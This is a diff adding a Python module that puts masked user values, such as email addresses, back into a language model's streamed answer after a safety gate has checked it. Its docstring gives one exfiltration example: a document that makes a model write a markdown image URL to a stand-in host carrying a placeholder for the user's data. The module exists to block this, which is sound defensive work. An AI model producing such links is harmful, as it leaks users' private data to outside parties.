@@ -1,0 +1,170 @@
+"""Values back into an answer: behind the gate, one restorer a channel, in running text alone.
+
+Exists because what a model says about ``MASK-MAIL-…`` has to reach the user as what it says about the user's own
+address. Protects two rules: only what this very request brought comes back (``Masker.restored``), and it never comes
+back into what a browser would fetch or follow (``places.py``), so that a document that makes a model write
+``![](http://elsewhere/?q=<placeholder>)`` gets nothing out.
+
+The gate goes first, always: its policy judges what the model wrote, the restorer puts in what the user wrote. What may
+still become a placeholder is held by the same engine as everything else, from its one static rule, at most 31
+characters; behind a placeholder the text is held until it is clear that it begins no address (``P.elsewhere.example``),
+at most 128 characters, mostly one.
+
+Sans-IO, and serialisable like the gate; the values themselves are never part of the state::
+
+    restorer = Restorer(masker)                     # after all texts of the request went through ``masker.mask``
+    shown = restorer.feed(released)                 # text that the channel's gate has released, placeholders of
+    shown = restorer.finish()                       # redactions included; then the rest, when the channel ends
+    restorer = Restorer.restore(masker, state)      # any process that has the request can go on
+
+After a block, feed nothing more and do not call ``finish``: what is held then stays away. Tool arguments are JSON and
+have a channel of their own (``arguments.py``).
+"""
+
+from __future__ import annotations
+
+from typing import TypedDict
+
+from guardrails.findings import AppliesTo
+from guardrails.masking import PLACEHOLDERS, Masker
+from streaming.core.effects import FOUND, RELEASE, Effect
+from streaming.core.gate import Gate
+from streaming.core.places import Place, PlaceState, begins_address, run_goes_on
+from streaming.core.snapshot import GateState, StateError
+
+FORMAT = 1
+_SLICE = 4_096  # characters looked at in one go
+
+
+class RestorerState(TypedDict):
+    """A restorer as JSON. ``waiting``: what stands behind the first placeholder that is not decided yet."""
+
+    format: int
+    tag: str
+    gate: GateState
+    raw: str
+    place: PlaceState
+    waiting: list[list[str]]
+
+
+class Restorer:
+    """Puts the values of one request back into one channel of its answer."""
+
+    __slots__ = ("_gate", "_masker", "_place", "_raw", "_waiting")
+
+    def __init__(self, masker: Masker) -> None:
+        self._masker = masker
+        self._gate = Gate(PLACEHOLDERS, AppliesTo.RESPONSE)
+        self._raw = ""  # read by the gate and not settled by it
+        self._place = Place()
+        # Pairs of (text as the model wrote it, value or empty). The first is a placeholder, and undecided.
+        self._waiting: list[tuple[str, str]] = []
+
+    def feed(self, text: str) -> str:
+        """More text that was released. Returns what can be shown now."""
+        if not len(self._masker):
+            return text
+        out: list[str] = []
+        for at in range(0, len(text), _SLICE):
+            part = text[at : at + _SLICE]
+            self._raw += part
+            out.append(self._take(self._gate.feed(part)))
+        return "".join(out)
+
+    def finish(self) -> str:
+        """The channel has ended. Returns the rest."""
+        if not len(self._masker):
+            return ""
+        return self._take(self._gate.finish()) + self._decided(over=True)
+
+    @property
+    def held(self) -> int:
+        """Characters that were fed and not shown yet, as the model wrote them."""
+        return len(self._raw) + sum(len(written) for written, _ in self._waiting)
+
+    def _take(self, effects: list[Effect]) -> str:
+        out: list[str] = []
+        for effect in effects:
+            if effect[0] == RELEASE:
+                self._raw = self._raw[len(effect[1]) :]
+                out.append(self._plain(effect[1]))
+            elif effect[0] == FOUND:
+                length = effect[1].end - effect[1].start
+                written, self._raw = self._raw[:length], self._raw[length:]
+                value = self._masker.restored(written)
+                if value is None:
+                    out.append(self._plain(written))
+                else:
+                    self._waiting.append((written, value))
+                    out.append(self._decided())
+        return "".join(out)
+
+    def _plain(self, text: str) -> str:
+        """Text that is no placeholder of ours."""
+        if not self._waiting:
+            self._place.read(text)
+            return text
+        at = 0
+        while at < len(text) and run_goes_on(text[at]):
+            at += 1
+        if at:
+            self._waiting.append((text[:at], ""))
+        out = self._decided(over=at < len(text))
+        if at == len(text):
+            return out
+        self._place.read(text[at:])
+        return out + text[at:]
+
+    def _decided(self, *, over: bool = False) -> str:
+        """What waits no longer. ``over``: nothing stands behind it that an address could go on with.
+
+        One after the other: what is decided about a placeholder depends on all of the run behind it, of which those
+        further on may still have to see more.
+        """
+        out: list[str] = []
+        while self._waiting:
+            written, value = self._waiting[0]
+            if value:
+                begins = begins_address("".join(text for text, _ in self._waiting[1:]))
+                if not (begins or over):
+                    break
+                if not begins and self._place.running_text:
+                    self._place.read_value(value)
+                    written = value
+                else:
+                    self._place.read(written)
+            else:
+                self._place.read(written)
+            out.append(written)
+            del self._waiting[0]
+        return "".join(out)
+
+    def state(self) -> RestorerState:
+        """The state as JSON-able data, without any value."""
+        return {
+            "format": FORMAT,
+            "tag": self._masker.tag,
+            "gate": self._gate.state(),
+            "raw": self._raw,
+            "place": self._place.state(),
+            "waiting": [[written, "placeholder" if value else ""] for written, value in self._waiting],
+        }
+
+    @classmethod
+    def restore(cls, masker: Masker, state: RestorerState) -> Restorer:
+        """A restorer that goes on where ``state`` was taken.
+
+        ``masker`` must hold the same request's values again. Raises ``StateError`` if it is of another conversation.
+        """
+        if state.get("format") != FORMAT:
+            raise StateError(f"state format {state.get('format')!r} is not {FORMAT}")
+        if state.get("tag") != masker.tag:
+            raise StateError("state belongs to another conversation")
+        restorer = cls(masker)
+        restorer._gate = Gate.restore(PLACEHOLDERS, state["gate"])
+        restorer._raw = state["raw"]
+        restorer._place = Place.restore(state["place"])
+        restorer._waiting = [
+            (written, (masker.restored(written) or "") if sort else "") for written, sort in state["waiting"]
+        ]
+        return restorer
